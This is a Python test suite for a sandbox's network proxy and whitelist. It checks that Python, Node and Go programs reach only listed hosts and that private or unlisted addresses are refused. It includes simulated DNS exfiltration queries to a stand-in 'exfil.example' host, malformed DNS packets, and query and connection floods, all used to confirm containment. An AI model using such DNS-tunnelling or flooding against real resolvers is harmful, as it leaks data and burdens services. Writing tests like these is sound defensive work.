# SPDX-License-Identifier: Apache-2.0
"""Programs that know nothing of a proxy: they look names up and connect, and reach what is listed and nothing else."""
import json
import os
import shutil

import cells
import harness
from cells import ran, run
from harness import case

# For programs that are to forget the proxy, and to look for themselves.
PLAIN = r'''
import ssl, subprocess, urllib.request
def forget():
	for key in [k for k in os.environ if "proxy" in k.lower()]:
		del os.environ[key]
def attempt(fn, *args):
	try:
		return fn(*args)
	except OSError as e:
		return type(getattr(e, "reason", e)).__name__
def fetch(url):
	with urllib.request.urlopen(url, timeout=20) as r:
		return json.load(r)["line"]
def curl(url):
	return json.loads(subprocess.run(["curl", "-sS", url], capture_output=True).stdout or b'{"line": "no"}')["line"]
def lookup(name, family=0):
	return sorted({a[4][0] for a in socket.getaddrinfo(name, None, family)})
def dns(data):
	"""The answer; a sound question behind it tells, when that one is answered, that there is none."""
	found, last = b"silence", b"\xbe\xef" + query("listed.test")[2:]
	with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
		s.settimeout(60)
		for one in (data, last):
			s.sendto(one, ("127.0.0.1", 53))
		while True:
			answer = s.recv(2000)
			if answer[:2] == last[:2]:
				return found
			found = answer
def query(name, kind=1, flags=0x100, counts=(1, 0, 0, 0), tail=b""):
	labels = b"".join(bytes([len(x)]) + x for x in name.encode().split(b".")) + b"\0"
	return struct.pack("!HH4H", 77, flags, *counts) + labels + struct.pack("!HH", kind, 1) + tail
def code(answer):
	return answer[3] & 15 if len(answer) >= 12 else answer.decode()
'''


def trusting():
	"""The CA of the test is what the host trusts."""
	return {"SSL_CERT_FILE": getattr(cells.NET, "ca", "")}


@case("https with the host's certificates, through the proxy and without it: Python and curl; a server that speaks first")
def https(t):
	has_curl = bool(shutil.which("curl")) and harness.BACKEND != "docker"
	p = ran(t, PLAIN + f"has_curl = {has_curl}\n" + r"""
urls = ["https://secure.test/1", "https://a.tls.test/2", "https://misnamed.test/3"]
out = {"proxy": [attempt(fetch, u) for u in urls], "curl": [curl("https://secure.test/4")] if has_curl else []}
forget()
out["plain"] = [attempt(fetch, u) for u in urls]
out["curl"] += [curl("https://a.tls.test/5"), curl("https://misnamed.test/")] if has_curl else []
with socket.create_connection(("secure.test", 5432), 20) as s:
	s.sendall(b"select 1")
	s.shutdown(socket.SHUT_WR)
	out["data"] = read_all(s).decode()
with socket.create_server(("127.0.0.1", 5432)) as own, socket.create_connection(own.getsockname()[:2], 5) as s:
	out["own"] = s.getpeername()[1]
done(**out)
""", ["secure.test", "secure.test:5432", "*.tls.test", "misnamed.test"], env=trusting())
	bad = "SSLCertVerificationError"
	t.equal([p.said["proxy"], p.said["plain"]], [["GET /1 HTTP/1.1", "GET /2 HTTP/1.1", bad]] * 2, "what urllib got")
	t.equal(p.said["curl"], ["GET /4 HTTP/1.1", "GET /5 HTTP/1.1", "no"] if has_curl else [], "what curl got")
	t.equal([p.said["data"], p.said["own"]], ["ready\nselect 1", 5432], "a server that speaks first, and one of the cell's own")
	for host in ("secure.test", "a.tls.test"):
		p.served(host, 443, count=3 if has_curl else 2)
	p.served("secure.test", 5432, 8, 14)
	t.equal([p.r.json["denied"], p.r.json["warnings"]], [[], []], "denied, and warnings")


@case("node: fetch and https reach a listed host without a proxy; other names are not found")
def node(t):
	if not os.path.exists("/usr/bin/node"):
		t.skip("needs node (package nodejs)")
	r = run(t, r"""
for (const k of Object.keys(process.env)) if (/proxy/i.test(k)) delete process.env[k];
const https = require('https');
const out = {};
const get = u => new Promise((ok, no) => https.get(u, r => {
	let s = '';
	r.on('data', d => s += d);
	r.on('end', () => ok(JSON.parse(s).line));
}).on('error', no));
(async () => {
	out.fetch = await fetch('https://secure.test/f').then(r => r.json()).then(j => j.line);
	out.https = await get('https://b.tls.test/h');
	out.wrong = await get('https://misnamed.test/').catch(e => e.code);
	out.other = await get('https://other.test/').catch(e => e.code);
	out.asked = await require('dns').promises.resolve4('secure.test');
	console.log(JSON.stringify(out));
})();
""", ["secure.test", "*.tls.test", "misnamed.test"], lang="javascript", prelude=False, env=trusting())
	t.equal(json.loads(r.stdout), {"fetch": "GET /f HTTP/1.1", "https": "GET /h HTTP/1.1", "wrong": "ERR_TLS_CERT_ALTNAME_INVALID",
				       "other": "ENOTFOUND", "asked": ["127.66.0.1"]}, "what node got")


@case("go: net/http through the proxy, tls.Dial and net.Dial without it; other names are not found")
def go(t):
	if not shutil.which("go"):
		t.skip("needs go (package golang-go)")
	mark = cells.NET.mark() if not cells.NET.why else 0
	r = run(t, r"""package main

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
)

func main() {
	r, err := http.Get("https://secure.test/g")
	fmt.Println(err, r != nil && r.StatusCode == 200)
	c, err := tls.Dial("tcp", "a.tls.test:443", nil)
	if err != nil {
		panic(err)
	}
	fmt.Fprintf(c, "GET /d HTTP/1.1\r\nHost: a.tls.test\r\n\r\n")
	head := make([]byte, 15)
	io.ReadFull(c, head)
	p, err := net.Dial("tcp", "secure.test:5432")
	if err != nil {
		panic(err)
	}
	hello := make([]byte, 6)
	io.ReadFull(p, hello)
	_, err = net.LookupHost("other.test")
	fmt.Printf("%s %q %v\n", head, hello, err.(*net.DNSError).IsNotFound)
}
""", ["secure.test:443", "secure.test:5432", "*.tls.test"], lang="go", prelude=False, env=trusting())
	t.equal(r.stdout.decode().splitlines(), ["<nil> true", r'HTTP/1.1 200 OK "ready\n" true'], "what go got", r)
	t.check(not any("other" in q for q in cells.NET.seen(mark, "dns")), "a name that is not listed was asked for", cells.NET.seen(mark, "dns"))


@case("lookups: listed names and nothing else, at once, and nobody outside hears of them", final="not contained")
def lookups(t):
	mark = cells.NET.mark() if not cells.NET.why else 0
	p = ran(t, PLAIN + r"""
forget()
def label(n):
	return bytes([n]) + b"a" * n
HEAD = b"\0\1\1\0\0\1\0\0\0\0\0\0"
first = [lookup(n) for n in ("listed.test", "LISTED.test.", "api.test", "x.wild.test", "y.wild.test", "x.wild.test")]
own = "127.0.0.1" in lookup("localhost")
none = [attempt(lookup, n) for n in ("other.test", "test", "a.listed.test", "wild.test", "x" * 60 + ".y.evil.example", "8.9.10.2.example", "cell.evil.test")]
none += [attempt(lookup, "listed.test", socket.AF_INET6)]
raw = [code(dns(query("listed.test", kind))) for kind in (1, 28, 15, 16, 65, 255)]
counts = [dns(query("listed.test", kind))[7] for kind in (1, 28, 15)]
leak = [code(dns(query("%s.%d.exfil.example" % ("ab" * 25, i)))) for i in range(100)]
junk = [code(dns(d)) for d in (b"", b"x", b"\0" * 11, b"\0" * 12, b"\xff" * 600, b"\0" * 3000, query("listed.test", flags=0x8180),
	query("listed.test", flags=0x2900), query("listed.test", counts=(2, 0, 0, 0)), query("listed.test", counts=(0, 0, 0, 0)),
	query("listed.test")[:-1], query("listed.test")[:20], HEAD + b"\xc0\x0c\0\1\0\1", HEAD + b"\x3faaaa", HEAD + b"\x0blisted.test\0\0\1\0\1",
	HEAD + 4 * label(63) + b"\0\0\1\0\1")]
still = code(dns(query("LiStEd.TeSt", tail=b"\0\0\x29\x04\xd0\0\0\0\0\0\0", counts=(1, 0, 0, 1))))
done(first=first, own=own, none=none, raw=raw, counts=counts, leak=sorted(set(leak)), junk=junk, still=still)
""", ["listed.test", "api.test:8080", "*.wild.test"])
	t.equal([a for a, in p.said["first"]], [f"127.66.0.{i}" for i in (1, 1, 2, 3, 4, 3)], "addresses")
	t.equal([p.said["own"], p.said["none"]], [True, ["gaierror"] * 8], "localhost, and names that are not listed")
	t.equal([p.said["raw"], p.said["counts"]], [[0] * 6, [1, 0, 0]], "codes and addresses for a listed name")
	t.equal(p.said["leak"], [3], "codes for names with bytes in their labels")
	silent, bad, not_done = "silence", 1, 4
	t.equal(p.said["junk"], [silent, silent, silent, bad, silent, bad, silent, not_done, bad, bad, bad, bad, bad, bad, 3, bad], "codes for nonsense")
	t.equal(p.said["still"], 0, "it answers after all that")
	t.equal(cells.NET.seen(mark, "dns") + cells.NET.seen(mark, "tcp"), [], "what was seen outside")
	rows = p.rows("other.test", 0, False)
	t.check(len(rows) == 1 and "not on the whitelist" in rows[0]["reason"], "no row of a name that was refused", p.r.json["network"])
	t.equal([d["fix"] for d in p.r.json["denied"] if d["what"] == "other.test"], ["add other.test to whitelist"], "the fix for it")


@case("addresses that stand for hosts: their ports only, the walls of the proxy, and no others", final="not contained")
def stand_ins(t):
	mark = cells.NET.mark() if not cells.NET.why else 0
	p = ran(t, PLAIN + r"""
forget()
def meet(host, port):
	try:
		s = socket.create_connection((host, port), 5)
	except OSError as e:
		return type(e).__name__
	with s:
		try:
			s.sendall(b"\1ab")
			s.shutdown(socket.SHUT_WR)
		except OSError as e:
			pass
		return read_all(s).decode().strip("!")
wild = lookup("a.wild.test")[0]
done(ok=[meet("listed.test", 80), meet("other.test", 8080), meet("a.wild.test", 443), meet("six.test", 443)],
     ports=[meet("listed.test", p) for p in (22, 8080, 3128, 53)] + [meet("other.test", 80), meet(wild, 8080)],
     walls=[meet(n, 80) for n in ("loop.test", "private.test", "meta.test", "own.test", "gone.test", "gone.wild.test")],
     others=[meet(a, 80) for a in ("127.66.0.0", "127.66.5.5", "127.66.255.255", "127.0.0.1", "127.0.0.2")],
     unnamed=meet("127.66.0.%d" % (int(wild.split(".")[3]) + 9), 443))
""", ["listed.test", "other.test:8080", "*.wild.test", "six.test:*", "loop.test", "private.test", "meta.test", "own.test", "gone.test"])
	reset = "ConnectionResetError"
	t.equal(p.said["ok"], ["\1ab"] * 4, "those that are let through")
	t.equal([p.said["ports"], p.said["others"]], [["ConnectionRefusedError"] * 6, ["ConnectionRefusedError"] * 5], "other ports, other addresses")
	t.equal([p.said["walls"], p.said["unnamed"]], [[reset] * 6, reset], "hosts that lead elsewhere or nowhere, and an address that nobody was given")
	for host, port in (("listed.test", 80), ("other.test", 8080), ("a.wild.test", 443), ("six.test", 443)):
		p.served(host, port, 3, 3)
	p.refused("loop.test", 80, "not public", "add 127.0.0.1 to whitelist, if it is meant")
	p.refused("private.test", 80, "not public")
	p.refused("meta.test", 80, "not public")
	p.refused("own.test", 80, "this host itself")
	t.check(any("stands for no name" in n["reason"] and n["port"] == 443 for n in p.r.json["network"]), "rows", p.r.json["network"])
	t.check(p.rows("gone.test", 80, True)[0]["reason"].startswith("the name cannot be resolved"), "rows", p.r.json["network"])
	t.equal(sorted(set(cells.NET.seen(mark, "tcp"))), ["2a00:1450::2 443", "8.9.10.2 443", "8.9.10.2 80", "8.9.10.3 8080"], "connections that were made")


@case("connections and lookups without the proxy have the same limits, and say so", final="not contained")
def stand_in_limits(t):
	p = ran(t, PLAIN + r"""
forget()
many = [attempt(socket.create_connection, ("listed.test", 443), 20) for _ in range(200)]
got = 0
for s in many:
	if isinstance(s, str):
		continue	# reset before it was looked at
	try:
		s.sendall(b"\1")
		s.shutdown(socket.SHUT_WR)
		got += read_all(s) == b"\1"
	except OSError:
		pass
below = [attempt(lookup, "n%d.wild.test" % i) for i in range(80)]
asked = 0
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
	s.connect(("127.0.0.1", 53))
	s.settimeout(2)
	try:
		while asked < 10000:
			s.send(query("listed.test"))
			s.recv(600)
			asked += 1
	except OSError:
		pass
done(got=got, below=[sum(x == "gaierror" for x in below), len({x[0] for x in below if x != "gaierror"})], ended=asked < 10000, after=attempt(lookup, "listed.test"))
""", ["listed.test", "*.wild.test"], extra="  egress_connections: 60\n", args=("--set", "open_files=1024"))
	t.equal(p.said, {"got": 60, "below": [16, 64], "ended": True, "after": "gaierror"}, "what became of them")
	p.served("listed.test", 443, 60, 60, count=60)
	p.refused("listed.test", 443, "all its egress_connections", "raise egress_connections")
	t.check("only the proxy reaches it" in p.rows("n79.wild.test", 0, False)[0]["reason"], "rows", p.r.json["network"])
	t.check(any("too many lookups" in n["reason"] for n in p.r.json["network"]), "rows", p.r.json["network"])


@case("a host without certificates: the program runs, and a warning says what to install")
def no_certificates(t):
	if cells.NET.why:
		t.skip(cells.NET.why)
	with cells.NET.without_certificates():
		p = ran(t, "done(a=sorted(k for k in os.environ if 'CERT' in k), b=os.path.exists('/etc/ssl/certs/ca-certificates.crt'))", [])
	t.check(any("install the package ca-certificates" in w for w in p.r.json["warnings"]), "the warning", p.r.json["warnings"])
	t.equal(p.said["a"], [], "variables")
